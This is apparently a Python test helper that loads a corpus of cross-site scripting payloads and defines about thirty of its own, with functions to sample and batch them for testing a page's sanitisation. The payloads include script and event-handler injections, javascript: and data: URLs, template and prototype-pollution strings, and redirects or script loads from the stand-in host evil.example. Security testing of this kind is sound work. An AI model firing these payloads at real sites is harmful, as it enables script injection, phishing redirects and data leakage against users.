"""The payloads: a corpus that lies beside the repository, and a handful of our own."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from itertools import pairwise
from pathlib import Path
from random import Random

CORPUS = Path(__file__).resolve().parents[3] / "shared" / "corpora" / "xss" / "all_unique.json"

OURS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></ScRiPt>",
    "</title></textarea></script><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=/x><button>Call 999</button></form>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>999</p>",
    "<img src=https://evil.example/x.png srcset='//evil.example/y.png 2x'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style>",
    "javascript:alert(1)//https://moor.example/",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%2e%2e",
    "[call us](javascript:alert(1))",
    "[call us](//evil.example)",
    "![x](https://evil.example/x.png)",
    "<https://x onmouseover=alert(1)>",
    "[moor](http://moor.example) <xttps://x onclick=alert(1) onmouseover=alert(1)>",
    "\\`<img src=x onerror=alert(1)>\\` [moor](http://moor.example)",
    "{{7*7}}{% print(1) %}${alert(1)}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "__proto__",
    "constructor",
    "__proto__[x]=<img/src/onerror=alert(1)>",
    "]]></script><script>alert(1)//",
    '"}],"x":{"y":"</script><script>alert(1)</script>',
)
"""Ours, for where there is no corpus: one of each kind that a page could fall for."""


def corpus() -> tuple[str, ...]:
    """Every payload of the corpus; none where it is absent."""
    return tuple(json.loads(CORPUS.read_text(encoding="utf-8"))) if CORPUS.is_file() else ()


def spread(payloads: Sequence[str], count: int, seed: int) -> tuple[str, ...]:
    """So many of them, from every part of the list: one of each stretch, which the seed chooses."""
    count = min(count, len(payloads))
    random, edges = Random(seed), [len(payloads) * n // max(count, 1) for n in range(count + 1)]
    return tuple(payloads[random.randrange(a, b)] for a, b in pairwise(edges))


def handfuls(payloads: Sequence[str], size: int) -> Iterator[tuple[str, ...]]:
    """All of them, so many at a time."""
    for start in range(0, len(payloads), size):
        yield tuple(payloads[start : start + size])
